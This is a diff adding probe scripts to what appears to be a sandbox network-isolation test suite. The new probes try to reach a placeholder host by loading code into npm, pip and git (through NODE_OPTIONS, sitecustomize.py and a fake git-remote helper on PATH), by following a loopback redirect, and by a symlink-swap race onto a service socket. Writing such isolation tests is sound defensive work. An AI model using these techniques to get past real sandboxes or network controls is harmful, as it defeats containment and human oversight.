@@ -75,6 +75,15 @@ NETWORK = {
     "listening by node": "#!/bin/sh\nnode -e 'const s = require(\"net\").createServer(c => { require(\"fs\").writeFileSync(\"ran\", \"reached\"); process.exit() }); s.listen(0, \"0.0.0.0\", () => require(\"fs\").writeFileSync(\"port\", \"tcp \" + s.address().port)); setTimeout(() => process.exit(), 900)'",
     "opening fast": "socket.socket().sendto(b'EVIL', 0x20000000, ('@host@', @port@))",
     "opening fast by sendmsg": "socket.socket().sendmsg([b'EVIL'], [], 0x20000000, ('@host@', @port@))",
+    "code loaded into a tool": "#!/bin/sh\necho 'require(\"net\").connect(@port@, \"@host@\").end(\"EVIL\"); setTimeout(() => process.exit(), 900)' > x.js\nNODE_OPTIONS='-r ./x.js' timeout 6 npm view x",
+    "code loaded into an installer": "#!/bin/sh\nmkdir y; echo 'import socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")' > y/sitecustomize.py; PYTHONPATH=y timeout 8 python3 -m pip download x",
+    "a program by git's name": "#!/bin/sh\nmkdir y; printf '#!/usr/bin/python3\\nimport socket; socket.create_connection((\"@host@\", @port@)).send(b\"EVIL\")\\n' > y/git-remote-foo; chmod +x y/git-remote-foo; PATH=$PWD/y:$PATH git ls-remote foo::x",
+    "sent on from loopback": "import threading, http.server\nclass Page(http.server.BaseHTTPRequestHandler):\n"
+    "    def do_GET(self): self.send_response(302); self.send_header('Location', 'http://@host@:@port@/EVIL'); self.end_headers()\n"
+    "s = http.server.HTTPServer(('127.0.0.1', 0), Page); threading.Thread(target=s.serve_forever, daemon=True).start()\nsubprocess.run(['curl', '-sL', '-m', '3', f'http://127.0.0.1:{s.server_port}/'])",
+    "a service in place of one's own": "import threading\nl = socket.socket(socket.AF_UNIX); l.bind('m'); l.listen(999); os.symlink('@service@', 'e'); stop = time.monotonic() + 2\n"
+    "def swap():\n    while time.monotonic() < stop: libc.syscall(316, -100, b'm', -100, b'e', 2)\nthreading.Thread(target=swap, daemon=True).start()\n"
+    "while time.monotonic() < stop:\n    s = socket.socket(socket.AF_UNIX); s.setblocking(False)\n    try: s.connect('m'); s.send(b'EVIL')\n    except OSError: pass\n    s.close()",
     "several ways at once": "s = socket.socket(2, 1, 262); s.connect(('@host@', @port@)); s.send(b'EVIL')",
     "a datagram in place of a stream": "import threading\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a, b = socket.socketpair(); fd = os.dup(a.fileno()); stop = time.monotonic() + 2\n"
     "def swap():\n    while time.monotonic() < stop: os.dup2(u.fileno(), fd); os.dup2(a.fileno(), fd)\n"
